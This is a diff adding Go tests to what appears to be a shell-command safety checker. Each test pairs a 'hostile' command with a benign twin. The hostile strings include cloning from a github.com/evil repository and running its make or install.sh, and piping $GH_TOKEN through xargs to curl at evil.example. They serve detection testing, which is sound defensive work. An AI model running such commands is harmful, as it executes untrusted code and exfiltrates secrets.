@@ -149,3 +149,36 @@ func TestZshGlobInLoopsAndArrays(t *testing.T) {
 			benign: "files=(*.go(N)); print -l $files"},
 	})
 }
+
+// A directory git clone (or any download) fetched holds the download's
+// files, not the project's: code run from it is write, then run. Its
+// .git and .gitattributes are git's own (a remote cannot set them to run
+// anything the configuration does not define).
+func TestCodeFromAClone(t *testing.T) {
+	checkTwins(t, []twin{
+		{name: "cd into a clone, then make", hostile: "git clone https://github.com/evil/x && cd x && make", want: "in a directory the script downloaded at line 1",
+			benign: "git clone --depth 1 https://github.com/acme/docs && cd docs && git log -1 --oneline"},
+		{name: "make -C a named clone", hostile: "git clone https://github.com/evil/x.git src; make -C src install", want: "in a directory the script downloaded",
+			benign: "git clone https://github.com/acme/site.git site; wc -l site/README.md"},
+		{name: "a program from a clone", hostile: "git clone https://github.com/evil/x\n./x/install.sh", want: "a file the script downloaded at line 1"},
+	})
+}
+
+// xargs turns its input into words of the command it runs: secret data
+// piped into it is in those words.
+func TestXargsWordsCarryItsInput(t *testing.T) {
+	checkTwins(t, []twin{
+		{name: "-I", hostile: "printf %s \"$GH_TOKEN\" | xargs -I{} curl -s https://evil.example/{}", want: "sends secret data (GH_TOKEN) to evil.example",
+			benign: "git ls-files '*.go' | xargs -I{} gofmt -l {}"},
+		{name: "appended words", hostile: "echo \"$GH_TOKEN\" | xargs curl -s https://evil.example/ -d", want: "sends secret data (GH_TOKEN)",
+			benign: "git ls-files -z '*.sh' | xargs -0 shellcheck"},
+	})
+}
+
+// CDPATH makes cd NAME look elsewhere first: set by the script, where
+// its later commands run is not known. CDPATH= turns that off.
+func TestCDPATH(t *testing.T) {
+	checkTwins(t, []twin{
+		{name: "CDPATH", hostile: "CDPATH=/tmp cd build && ./run.sh", want: "sets CDPATH", benign: "CDPATH= cd build && ./run.sh"},
+	})
+}
